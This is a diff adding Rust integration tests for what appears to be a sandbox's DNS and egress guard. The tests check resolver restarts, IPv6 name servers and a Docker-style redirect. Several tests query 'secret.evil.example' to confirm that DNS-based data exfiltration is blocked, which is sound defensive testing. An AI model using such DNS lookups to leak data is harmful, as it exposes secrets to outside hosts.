@@ -1,0 +1,114 @@
+//! A resolver that ends, and name servers in odd places.
+
+use std::time::Instant;
+
+use guard_lab::{Attempt, Shell, eventually, exec};
+use rustix::process::{Pid, Signal, kill_process};
+
+use super::{
+    place::{API, API_V6, DB, DNS, DNS_V6, Place, usual},
+    server::OwnServer,
+};
+
+#[test]
+fn a_resolver_that_is_killed_is_soon_another_and_opens_nothing_meanwhile() {
+    let place = Place::new();
+    let _production = place.production();
+    let mut shell = Shell::start(&place.daemon, "names").unwrap();
+    let question = format!("udp {DNS} v1.api.example.com");
+    let answered = format!("answered {API}");
+    assert_eq!(place.asked(&mut shell, &question), answered);
+    let resolver = place.resolver().unwrap();
+    let began = Instant::now();
+    kill_process(Pid::from_raw(resolver.cast_signed()).unwrap(), Signal::KILL).unwrap();
+    // What was learned is, and nothing else: also not at the ports that were the resolver's.
+    assert!(shell.reaches(&Attempt::tcp(API, 443)).unwrap());
+    assert!(!shell.reaches(&Attempt::tcp(DB, 443)).unwrap());
+    eventually("another one answers", || {
+        place.asked(&mut shell, &question) == answered
+    })
+    .unwrap();
+    println!("answered again after {:?}", began.elapsed());
+    assert_ne!(place.resolver(), Some(resolver));
+    assert!(!place.dns.has_heard(b"secret"));
+    let secret = format!("udp {DNS} secret.evil.example");
+    assert_eq!(place.asked(&mut shell, &secret), "NXDOMAIN");
+}
+
+#[test]
+fn what_a_dying_resolver_was_asked_is_refused_and_opens_nothing() {
+    // It never answers, so that the resolver is asked when it ends.
+    let place = Place::serving(|_, _| Vec::new());
+    let _production = place.production();
+    let mut shell = Shell::start(&place.daemon, "names").unwrap();
+    let program = place.odd.display();
+    shell
+        .tell(&format!(
+            "/usr/bin/python3 {program} udp {DNS} v1.api.example.com"
+        ))
+        .unwrap();
+    eventually("it is asked", || !place.dns.heard().is_empty()).unwrap();
+    let resolver = place.resolver().unwrap();
+    let pid = Pid::from_raw(resolver.cast_signed()).unwrap();
+    kill_process(pid, Signal::KILL).unwrap();
+    let said = shell.line_with("answer").unwrap();
+    assert!(!said.contains("answered"), "{said}");
+    assert!(!shell.reaches(&Attempt::tcp(API, 443)).unwrap());
+}
+
+#[test]
+fn a_name_server_over_ipv6_is_asked() {
+    let place = Place::new();
+    // Production answers for a whole range, and has this address of it.
+    let mut ip = place.network.prod().command("ip");
+    ip.args([
+        "addr",
+        "add",
+        &format!("{DNS_V6}/128"),
+        "dev",
+        "lo",
+        "nodad",
+    ]);
+    assert!(ip.status().unwrap().success());
+    let server = OwnServer::start(place.network.prod(), &format!("[{DNS_V6}]:53"), usual);
+    let _production = place.production();
+    let mut shell = Shell::start(&place.daemon, "names").unwrap();
+    for way in ["udp-AAAA", "connected-AAAA", "tcp-AAAA"] {
+        let said = place.asked(&mut shell, &format!("{way} {DNS_V6} v1.api.example.com"));
+        assert_eq!(said, format!("answered {API_V6}"), "{way}");
+    }
+    assert!(shell.reaches(&Attempt::tcp(API_V6, 443)).unwrap());
+    let secret = format!("udp {DNS_V6} secret.evil.example");
+    assert_eq!(place.asked(&mut shell, &secret), "NXDOMAIN");
+    assert!(!server.has_heard(b"secret"));
+}
+
+/// As Docker's 127.0.0.11 is: its port 53 leads to a port of the same namespace.
+#[test]
+fn a_name_server_behind_a_redirect_of_the_machine_s_is_asked() {
+    let config = "resolvers = [\"127.0.0.11:53\"]\n";
+    let place = Place::build(usual, |daemon| daemon.config(config));
+    let dev = place.network.dev();
+    let engine = OwnServer::start(dev, "127.0.0.11:5300", usual);
+    let rules = "add table ip nat
+add chain ip nat output { type nat hook output priority -100 ; }
+add rule ip nat output ip daddr 127.0.0.11 udp dport 53 dnat to 127.0.0.11:5300
+add rule ip nat output ip daddr 127.0.0.11 tcp dport 53 dnat to 127.0.0.11:5300\n";
+    let mut nft = dev.command("nft");
+    let done = exec::output_with(nft.args(["-f", "-"]), rules).unwrap();
+    assert!(done.status.success(), "{done:?}");
+    let _production = place.production();
+    assert_eq!(
+        place.outside(&["udp", "127.0.0.11", "v1.api.example.com"]),
+        format!("answered {API}")
+    );
+    let mut shell = Shell::start(&place.daemon, "names").unwrap();
+    for way in ["udp", "connected", "tcp"] {
+        let said = place.asked(&mut shell, &format!("{way} 127.0.0.11 v1.api.example.com"));
+        assert_eq!(said, format!("answered {API}"), "{way}");
+    }
+    assert!(shell.reaches(&Attempt::tcp(API, 443)).unwrap());
+    let secret = "udp 127.0.0.11 secret.evil.example";
+    assert_eq!(place.asked(&mut shell, secret), "NXDOMAIN");
+    assert!(!engine.has_heard(b"secret"));
+}
